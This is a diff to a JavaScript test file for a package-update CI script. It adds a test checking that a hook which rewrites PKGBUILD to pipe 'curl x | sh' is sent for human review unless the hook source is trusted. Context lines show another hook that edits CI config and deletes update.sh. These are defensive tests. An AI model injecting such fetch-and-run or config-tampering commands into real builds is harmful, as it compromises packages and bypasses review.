@@ -64,6 +64,18 @@ describe('update.sh', () => {
     expect(report.packages[1]).toMatchObject({ name: 'slow', problems: [{ code: 'CIS011' }] });
   });
 
+  it.each([
+    ['', 'review'],
+    ['update.sh', 'commit'],
+  ])('brings what a person has to see, unless hooks are trusted (%j)', async (trusted, decision) => {
+    world = await RecipeWorld.open(
+      folderOf('foo', custom, {}, hook('sed -i "s/ true/ curl x | sh/" PKGBUILD\n')),
+      { CI_HUMAN_REVIEW: 'true', CI_TRUSTED_SOURCES: trusted },
+    );
+    const { report } = await world.run({ dryRun: true });
+    expect(report.packages).toMatchObject([{ decision }]);
+  });
+
   it('cannot change settings of its package', async () => {
     world = await RecipeWorld.open(
       folderOf('foo', custom, {}, hook('echo CI_MANAGE_AUR=true >> .CI/config\nrm .CI/update.sh\n')),
